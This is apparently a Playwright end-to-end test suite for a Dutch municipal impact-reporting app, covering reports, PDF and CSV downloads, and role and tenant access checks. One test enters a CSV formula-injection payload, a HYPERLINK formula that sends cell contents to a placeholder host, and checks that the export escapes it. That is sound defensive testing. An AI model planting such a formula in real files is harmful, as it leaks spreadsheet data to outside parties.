import type { Page } from "@playwright/test";
import { csvRecords, parseCsv } from "../lib/domain/csv";
import { parseDutchNumber } from "../lib/domain/numbers";
import { expectAccessible } from "./support/axe";
import { expect, test } from "./support/fixtures";

const PILOT = "Samen minder eenzaam in Oost";
const EXPORTS = ["indicators", "assumptions", "corrections", "lessons"] as const;

/** The pilot's id, found the way a user finds the pilot. */
async function pilotId(page: Page): Promise<number> {
  await page.goto("/programmes");
  await page.getByRole("link", { name: PILOT }).click();
  await expect(page.getByRole("heading", { level: 1, name: PILOT })).toBeVisible();
  return Number(/\/programmes\/(\d+)/.exec(page.url())?.[1]);
}

test.describe("management", () => {
  test("reads the pilot's report by the three questions of the budget cycle", async ({ asManagement: page }) => {
    const id = await pilotId(page);
    await page.goto(`/programmes/${id}/report`);
    await expect(page.getByRole("heading", { level: 2, name: "Rapportage" })).toBeVisible();
    await expect(page.getByText(/Opgesteld op \d{1,2} \S+ \d{4}\./)).toBeVisible();

    const achieve = page.getByRole("region", { name: "Wat willen we bereiken?" });
    await expect(achieve.getByRole("heading", { level: 2 })).toHaveText("Wat willen we bereiken?");
    await expect(achieve.getByText("Veel oudere inwoners van de wijk Oost voelen zich eenzaam.")).toBeVisible();
    await expect(achieve.getByText("Minder eenzaamheid onder ouderen in Oost", { exact: true })).toBeVisible();
    const targets = achieve.getByRole("table", { name: "Indicatoren met nulmeting en streefwaarde" });
    await expect(targets.getByText("Aantal deelnemers aan ontmoetingsactiviteiten")).toBeVisible();

    const doing = page.getByRole("region", { name: "Wat doen we daarvoor?" });
    await expect(doing.getByRole("heading", { level: 2 })).toHaveText("Wat doen we daarvoor?");
    await expect(doing.getByRole("heading", { name: "Huisbezoeken: wie doet open, en waarom?" })).toBeVisible();
    await expect(doing.getByText("Onderbouwd", { exact: true }).first()).toBeVisible();

    const result = page.getByRole("region", { name: "Wat heeft het opgeleverd?" });
    await expect(result.getByRole("heading", { level: 2 })).toHaveText("Wat heeft het opgeleverd?");
    const progress = result.getByRole("table", { name: /laatste meting, de streefwaarde en de status/ });
    await expect(progress.getByText("Aantal deelnemers aan ontmoetingsactiviteiten")).toBeVisible();
    await expect(progress.getByText(/^(Op koers|Aandacht|Uit koers|Geen gegevens)$/).first()).toBeVisible();
    await expect(result.getByRole("heading", { name: "Buurtcoaches bellen eerst voor een afspraak" })).toBeVisible();
    // A proposal that still waits for a decision is not in the report.
    await expect(result.getByText("Ook een ontmoetingsmoment op zaterdag")).toHaveCount(0);
    await expect(result.getByRole("heading", { name: "Geleerde lessen" })).toBeVisible();
    await expect(page.getByRole("link", { name: "PDF downloaden" })).toBeVisible();
    await expect(page.getByRole("button", { name: "Afdrukken" })).toBeVisible();

    // On paper: no navigation and no buttons, the content stays.
    await page.emulateMedia({ media: "print" });
    await expect(page.getByRole("navigation", { name: "Onderdelen van het programma" })).toBeHidden();
    await expect(page.getByRole("link", { name: "PDF downloaden" })).toBeHidden();
    await expect(page.getByRole("button", { name: "Afdrukken" })).toBeHidden();
    await expect(result.getByRole("heading", { name: "Buurtcoaches bellen eerst voor een afspraak" })).toBeVisible();
    await page.emulateMedia({ media: "screen" });

    // Without a PDF on the server, the page says how to save it with the browser's print dialog.
    await page.goto(`/programmes/${id}/report?pdf=niet-beschikbaar`);
    await expect(page.getByText("Het PDF-bestand kan nu niet worden gemaakt")).toBeVisible();
    await expect(page.getByText(/Druk op Ctrl\+P/)).toBeVisible();
    await expectAccessible(page);

    // When too many PDFs are being made, the page says so and offers the same way out.
    await page.goto(`/programmes/${id}/report?pdf=bezet`);
    await expect(page.getByText("Er worden nu veel PDF-bestanden gemaakt.", { exact: false })).toBeVisible();
    await expect(page.getByText(/Druk op Ctrl\+P/)).toBeVisible();
  });

  test("downloads the report as a PDF", async ({ asManagement: page }) => {
    const id = await pilotId(page);
    const response = await page.request.get(`/api/programmes/${id}/report.pdf`);
    expect(response.status()).toBe(200);
    expect(response.headers()["content-type"]).toBe("application/pdf");
    expect(response.headers()["content-disposition"]).toMatch(
      /^attachment; filename="rapportage-samen-minder-eenzaam-in-oost-\d{4}-\d{2}-\d{2}\.pdf"/,
    );
    const body = await response.body();
    expect(body.subarray(0, 4).toString("latin1")).toBe("%PDF");
    expect(body.length).toBeGreaterThan(5_000);
  });

  test("downloads the pilot's indicators as a CSV for Dutch Excel", async ({ asManagement: page }) => {
    const id = await pilotId(page);
    const response = await page.request.get(`/api/programmes/${id}/export/indicators`);
    expect(response.status()).toBe(200);
    expect(response.headers()["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers()["content-disposition"]).toMatch(
      /^attachment; filename="indicatoren-en-metingen-samen-minder-eenzaam-in-oost-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const body = await response.body();
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.toString("utf8");
    expect(text).toContain("\r\n");
    const [header] = parseCsv(text);
    expect(header?.slice(0, 3)).toEqual(["Indicator", "Eenheid", "Wat is beter"]);
    expect(text.split("\r\n")[0]).toContain("Indicator;Eenheid;Wat is beter;Nulmeting;");
    const rows = csvRecords(text).filter((r) => r.Indicator === "Aantal deelnemers aan ontmoetingsactiviteiten");
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows) {
      expect(row.Peildatum).toMatch(/^\d{2}-\d{2}-\d{4}$/);
      expect(parseDutchNumber(row.Waarde ?? "")).not.toBeNull();
      expect(row["Wat is beter"]).toBe("Hoger is beter");
    }
    // Decimals come with a comma, as Dutch Excel reads them.
    const shares = csvRecords(text).filter((r) => r.Indicator === "Aandeel deelnemers dat zich vaak eenzaam voelt");
    expect(shares.some((r) => /^\d+,\d+$/.test(r.Waarde ?? ""))).toBe(true);
    expect(shares[0]?.Nulmeting).toBe("48");
  });
});

test("a programme manager's formula in an assumption comes out of the CSV as harmless text", async ({
  asManager: page,
  asBeheerder: log,
  freshProgramme,
}) => {
  const { id, name } = freshProgramme;

  const formula = '=HYPERLINK("https://voorbeeld.example/?lek="&A1;"Klik hier")';
  await page.goto(`/programmes/${id}/assumptions/new`);
  await page.getByLabel("Aanname", { exact: true }).fill(formula);
  await page.getByLabel(/^Hoog/).check();
  await page.getByRole("button", { name: "Aanname toevoegen" }).click();
  await expect(page.getByText("De aanname is opgeslagen.")).toBeVisible();

  await page.goto("/exports");
  await expect(page.getByRole("heading", { level: 1, name: "Downloads" })).toBeVisible();
  await expect(page.getByRole("link", { name: `Aannames van ${name} (CSV)` })).toBeVisible();
  await expect(page.getByRole("link", { name: "Alle gegevens downloaden (JSON)" })).toHaveCount(0);

  const response = await page.request.get(`/api/programmes/${id}/export/assumptions`);
  expect(response.status()).toBe(200);
  const body = await response.body();
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = body.toString("utf8");
  expect(text.split("\r\n")[0]).toBe(
    "\uFEFFAanname;Kritiek;Status;Laatste wijziging op;Reden van de laatste wijziging;Gewijzigd door;Toetsplan",
  );
  const records = csvRecords(text);
  expect(records).toHaveLength(1);
  expect(records[0]?.Aanname).toBe(`'${formula}`);
  expect(records[0]?.Kritiek).toBe("Hoog");
  expect(records[0]?.Status).toBe("Ongetoetst");

  // The download is in the activity log.
  await log.goto("/admin/activity?action=export.downloaded");
  await expect(log.getByText(`downloadde het CSV-bestand met aannames van programma ‘${name}’`)).toBeVisible();
});

test.describe("the export of the whole gemeente", () => {
  for (const account of ["teamlid", "management", "programmamanager", "partner"] as const) {
    test(`is not found for ${account}`, async ({ requestAs }) => {
      const response = await (await requestAs(account)).get("/api/export");
      expect(response.status()).toBe(404);
      expect(await response.text()).not.toContain("{");
    });
  }

  test("sends an anonymous visitor to the sign-in page", async ({ requestAs }) => {
    const response = await (await requestAs()).get("/api/export", { maxRedirects: 0 });
    expect(response.status()).toBeGreaterThanOrEqual(300);
    expect(response.status()).toBeLessThan(400);
    expect(response.headers().location).toMatch(/\/login\?callbackUrl=%2Fexports$/);
  });

  test.describe("for the beheerder", () => {
    test("holds the pilot and no password hashes", async ({ asBeheerder: page }) => {
      await page.goto("/exports");
      await expect(page.getByRole("heading", { level: 2, name: "Alle gegevens van Gemeente Voorbeeld" })).toBeVisible();
      await expect(page.getByRole("link", { name: "Alle gegevens downloaden (JSON)" })).toBeVisible();

      const response = await page.request.get("/api/export");
      expect(response.status()).toBe(200);
      expect(response.headers()["content-type"]).toContain("application/json");
      expect(response.headers()["content-disposition"]).toMatch(
        /^attachment; filename="impactkoers-gemeente-voorbeeld-\d{4}-\d{2}-\d{2}\.json"/,
      );
      const text = await response.text();
      expect(text).not.toContain("passwordHash");
      expect(text).not.toContain("sessionVersion");
      expect(text).not.toContain("$argon2");
      const data = JSON.parse(text);
      expect(data.organisation.name).toBe("Gemeente Voorbeeld");
      expect(data.programmes.map((p: { name: string }) => p.name)).toContain(PILOT);
      expect(data.users.map((u: { email: string }) => u.email)).toContain("manager@voorbeeld.example");
      expect(data.users.map((u: { email: string }) => u.email)).not.toContain("beheerder@testdorp.example");
      for (const table of ["memberships", "tocElements", "indicators", "measurements", "courseCorrections"]) {
        expect(Array.isArray(data[table]), table).toBe(true);
      }
      expect(data.courseCorrections.map((c: { title: string }) => c.title)).toContain(
        "Buurtcoaches bellen eerst voor een afspraak",
      );
    });
  });
});

test("a partner downloads the files of their own programme", async ({ asPartner: page }) => {
  const id = await pilotId(page);
  await page.goto("/exports");
  await expect(page.getByRole("heading", { level: 3, name: PILOT })).toBeVisible();
  await expect(page.getByRole("heading", { level: 3, name: "Taalcafé voor nieuwkomers" })).toHaveCount(0);
  for (const kind of EXPORTS) {
    const response = await page.request.get(`/api/programmes/${id}/export/${kind}`);
    expect(response.status(), kind).toBe(200);
    expect(parseCsv(await response.text()).length, kind).toBeGreaterThanOrEqual(1);
  }
});

test("another gemeente gets not found for the pilot's report and downloads", async ({
  asManagement,
  asTestdorp: page,
}) => {
  const id = await pilotId(asManagement);
  const report = await page.goto(`/programmes/${id}/report`);
  expect(report?.status()).toBe(404);
  await expect(page.getByRole("heading", { level: 1, name: "Pagina niet gevonden" })).toBeVisible();
  for (const path of [`/api/programmes/${id}/report.pdf`, ...EXPORTS.map((k) => `/api/programmes/${id}/export/${k}`)]) {
    const response = await page.request.get(path, { maxRedirects: 0 });
    expect(response.status(), path).toBe(404);
  }
  await page.goto("/exports");
  await expect(page.getByText(PILOT)).toHaveCount(0);
});

test("an unknown download is not found", async ({ asManagement: page }) => {
  const id = await pilotId(page);
  for (const path of [`/api/programmes/${id}/export/users`, "/api/programmes/abc/export/indicators"]) {
    expect((await page.request.get(path)).status(), path).toBe(404);
  }
});
